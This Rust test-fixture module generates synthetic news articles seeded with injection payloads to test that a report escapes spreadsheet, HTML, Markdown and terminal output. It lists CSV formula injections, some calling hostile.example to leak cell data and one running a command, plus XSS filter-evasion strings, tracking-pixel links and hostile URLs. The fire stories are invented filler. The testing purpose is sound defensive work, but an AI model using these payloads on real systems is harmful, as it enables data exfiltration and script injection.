//! Articles that try to break out of a report: of the cell of a spreadsheet, of a page, of Markdown, of a terminal.

use serde_json::json;

/// What spreadsheets run, one for each way that OWASP's page on CSV injection tells of: every sign that begins a formula,
/// commands, links, other separators, quotation marks, white space and signs of full width.
pub const FORMULAS: [&str; 14] = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "=cmd|'/c run'!A1",
    "=HYPERLINK(\"http://hostile.example/?leak=\"&A1,\"open\")",
    "=WEBSERVICE(CONCATENATE(\"http://hostile.example/\",A2))",
    "word\";=1+2;\"",
    "word;+1+2",
    " \"=1+2\"",
    "＝1+2",
];

/// What browsers run, one for each way that OWASP's cheat sheet on evading filters tells of: tags, attributes, handlers,
/// addresses, broken and nested tags, entities, styles, comments, other elements' ends.
pub const SCRIPTS: [&str; 22] = [
    "<script>owned=1</script>",
    "</script><script>owned=1</script>",
    "</style><script>owned=1</script>",
    "</title><script>owned=1</script>",
    "<img src=x onerror=owned=1>",
    "<IMG SRC=\"jav&#x09;ascript:owned=1\">",
    "<svg/onload=owned=1>",
    "<<script>owned=1//<</script>",
    "<scr<script>ipt>owned=1</scr</script>ipt>",
    "\" onmouseover=\"owned=1\" x=\"",
    "' autofocus onfocus='owned=1",
    "\"><iframe srcdoc=\"<script>owned=1</script>\">",
    "<a href=\"javascript:owned=1\">open</a>",
    "<math><mtext></form><form><style></math><img src onerror=owned=1>",
    "<base href=\"http://hostile.example/\">",
    "<meta http-equiv=refresh content=\"0;url=http://hostile.example/\">",
    "<style>@import 'http://hostile.example/x.css';</style>",
    "<details open ontoggle=owned=1>",
    "<!--><script>owned=1</script-->",
    "&lt;script&gt;owned=1&lt;/script&gt; &#60;b&#62;",
    "{{owned}} ${owned} <%= owned %>",
    "\u{202E}<b>turned\u{202C} \u{1b}[31mred \u{0}nul",
];

/// What Markdown and GitHub make something of.
pub const MARKUP: [&str; 9] = [
    "![pixel](http://hostile.example/pixel.png)",
    "[open](javascript:owned)",
    "<http://hostile.example/> http://hostile.example/ www.hostile.example",
    "@everyone #1 a@hostile.example",
    "`code` **bold** ~~gone~~ $x$",
    "| cell | cell |",
    "# heading",
    "[^1] [x]: http://hostile.example/",
    "\\*not\\* &amp; \\",
];

/// Where a page of a hostile article says that it is.
const ADDRESSES: [&str; 6] = [
    "javascript:owned=1",
    "data:text/html,<script>owned=1</script>",
    "https://good.example@hostile.example/",
    "https://good.example/\"onmouseover=\"owned=1",
    "https://good.example/a)b>c|d&copy=1",
    "//hostile.example/",
];

/// Articles as JSON lines: each tries one thing, in its id, source, address, title, text and names. They contradict one
/// another, so that all of them are quoted.
pub fn articles() -> String {
    let payloads = FORMULAS.iter().chain(&SCRIPTS).chain(&MARKUP);
    let article = |(n, payload): (usize, &&str)| {
        json!({
            "id": format!("{payload} {n}"),
            "source": format!("{payload} Post {n}"),
            "published": "2021-03-04",
            "url": ADDRESSES[n % ADDRESSES.len()],
            "title": format!("{payload} fire in Hull kills {}", n + 3),
            "text": format!(
                "A fire {payload} in a hotel in Hull killed {} people on Tuesday, Mayor Ann {payload} Smith said. \
                 {payload} The blaze injured {} guests, police said.\n\n{payload}\n",
                n + 3,
                n + 40,
            ),
        })
    };
    payloads.enumerate().map(|numbered| format!("{}\n", article(numbered))).collect()
}
